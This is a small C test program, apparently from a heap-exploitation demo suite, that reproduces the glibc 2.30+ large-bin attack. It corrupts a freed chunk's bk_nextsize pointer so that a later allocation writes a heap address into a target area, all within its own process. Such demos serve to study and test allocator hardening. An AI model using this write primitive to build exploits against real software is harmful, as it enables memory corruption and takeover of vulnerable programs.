/* expect: exit 0
 * Large-bin attack (the glibc 2.30+ form): with p1 sorted in a large bin, its bk_nextsize is pointed
 * 0x20 bytes before a target; filing a smaller chunk p2 into the same bin writes p2's address there. */
#include "attack.h"

int main(void)
{
	attack_begin();
	char *p1 = malloc(0x428);
	char *g1 = malloc(0x18);
	char *p2 = malloc(0x418);
	char *g2 = malloc(0x18);
	show("p1", p1);
	show("g1", g1);
	show("p2", p2);
	show("g2", g2);
	free(p1);
	show("malloc(0x438)", malloc(0x438)); /* files p1 in its large bin */
	free(p2);
	((size_t *)p1)[3] = (size_t)((char *)&target_area[4] - 0x20);
	attack_staged("malloc(0x438) files p2 next to the corrupted p1");
	show("malloc(0x438)", malloc(0x438));
	show("target word", (void *)target_area[4]);
	show("chunk of p2", chunk_words(p2));
	return 0;
}
